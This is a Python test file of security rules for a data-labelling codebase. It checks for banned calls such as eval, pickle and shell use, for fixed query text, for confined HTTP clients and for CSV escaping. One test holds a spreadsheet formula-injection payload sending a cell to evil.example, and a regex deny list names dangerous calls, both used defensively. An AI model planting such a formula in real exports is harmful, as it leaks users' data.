"""Rules that the code itself must keep, read from the code."""

import ast
import csv
import re
import tomllib
from pathlib import Path

import pytest
from route_table import TABLE

from annotate.web_docs import openapi
from train.export_folder import write_csv

ROOT = Path(__file__).parents[2]
FILES = [
    file
    for folder in ("storage", "generate", "annotate", "train", "pairloop")
    for file in sorted((ROOT / folder).rglob("*.py"))
]


def calls(file):
    """Every call of a file, as its dotted name and the call itself."""
    for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call) and isinstance(node.func, (ast.Name, ast.Attribute)):
            yield ast.unparse(node.func), node


FORBIDDEN = re.compile(
    r"eval|exec|torch\.load|pickle\.loads?|dill\..*|joblib\.load|yaml\.load|gr\.load"
    r"|os\.system|os\.popen|gr\.(File|UploadButton|FileExplorer|Image|LoginButton|Markdown|Chatbot)"
    r"|(csv\.)?(writer|DictWriter)|\w+\.to_csv|hmac\.new\(.*"
)
# What stands alone may do it, with the reason.
MAY = {
    ("annotate/report_child.py", "pickle.loads"),  # from our own child's stdout, never from a file
    ("train/export_folder.py", "csv.writer"),  # the one place that writes CSV
}


def test_nothing_runs_text_unpickles_files_or_takes_uploads():
    found = {
        (str(file.relative_to(ROOT)), name)
        for file in FILES
        for name, _call in calls(file)
        if FORBIDDEN.fullmatch(name)
    }
    assert found == MAY


def test_a_shell_is_never_asked():
    for file in FILES:
        for name, call in calls(file):
            shell = [k for k in call.keywords if k.arg == "shell"]
            assert not shell, (file, name)


def test_queries_are_named_and_what_is_asked_for_goes_in_as_values():
    """The text of a query never depends on a request: outside the store each name is written out."""
    names, odd = 0, set()
    for file in FILES:
        for name, call in calls(file):
            if name.endswith((".query", ".execute")) and call.args:
                if isinstance(call.args[0], ast.Constant):
                    names += 1
                else:
                    odd.add(str(file.relative_to(ROOT)))
    assert names > 40
    assert odd == {
        "storage/copying.py",
        "storage/embedded.py",
        "storage/imports.py",
        "storage/lake.py",
        "storage/quack.py",
        "storage/store.py",
    }


def test_addresses_are_asked_in_these_files_only():
    """Each asks what the configuration names; nothing that a request holds is an address."""
    asking = {
        str(file.relative_to(ROOT))
        for file in FILES
        for name, _call in calls(file)
        if re.fullmatch(
            r"httpx2?\.(Client|AsyncClient|get|post|stream)|.*urlopen|requests\..*", name
        )
        and not name.startswith("requests.append")
    }
    assert asking == {
        "storage/model_server.py",  # models, from [generate.server] and [annotate.judge]
        "annotate/oidc.py",  # the issuer, from [annotate.oidc]
        "annotate/webhooks.py",  # receivers, from [[annotate.webhooks]]
        "pairloop/calls.py",  # the Python client: our own server
        "pairloop/demo/interactive.py",
        "pairloop/demo/scripted.py",
        "pairloop/demo/simulate.py",
    }
    for file in ("storage/model_server.py", "annotate/oidc.py", "annotate/webhooks.py"):
        for name, call in calls(ROOT / file):
            if re.fullmatch(r"httpx\.(Async)?Client", name):
                kept = {k.arg: ast.unparse(k.value) for k in call.keywords}
                assert kept["follow_redirects"] == "False", file


def test_no_request_names_an_address_a_file_or_a_column(tmp_path, monkeypatch):
    """So that there is nothing to forge: neither an import by URL nor a filter by column."""
    from web import Server

    monkeypatch.setattr("annotate.app._mount_pages", lambda *_pages: None)
    server = Server(tmp_path)
    document = openapi(server.app)
    server.store.close()
    names = {
        name
        for schema in document["components"]["schemas"].values()
        for name in schema.get("properties", {})
    } | {
        parameter["name"]
        for path in document["paths"].values()
        for operation in path.values()
        for parameter in operation.get("parameters", ())
    }
    suspicious = re.compile(
        r"url|uri|href|host|path|file|endpoint|sort|order|column|filter|query|sql"
    )
    assert len(names) > 30
    assert {name for name in names if suspicious.search(name)} == set()
    assert {(m.upper(), p) for p, found in document["paths"].items() for m in found} == {
        (method, path.replace(":path", ""))
        for method, path in TABLE
        if path.startswith(("/api/", "/healthz", "/readyz", "/metrics"))
    }


def test_gradio_is_past_its_known_holes():
    dependencies = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["dependencies"]
    (line,) = [d for d in dependencies if d.startswith("gradio")]
    least = tuple(map(int, re.search(r">=(\d+)\.(\d+)", line).groups()))
    assert least >= (6, 31)


@pytest.mark.parametrize("first", [*"=+-@\t\r\n", *"\uff1d\uff0b\uff0d\uff20"])
def test_no_cell_of_a_csv_is_a_formula(tmp_path, first):
    """Prompts, answers, names and rationales alike; numbers and lists stay what they are."""
    hostile = f'{first}HYPERLINK("https://evil.example?"&A1,"x")'
    row = {"prompt": hostile, "labeler": hostile, "n": -1.5, "tags": [hostile], "none": None}
    write_csv(tmp_path / "votes.csv", [row], list(row))
    with (tmp_path / "votes.csv").open(encoding="utf-8", newline="") as file:
        (found,) = csv.DictReader(file)
    assert found["prompt"] == found["labeler"] == f"'{hostile}"
    assert (found["n"], found["tags"][0], found["none"]) == ("-1.5", "[", "")
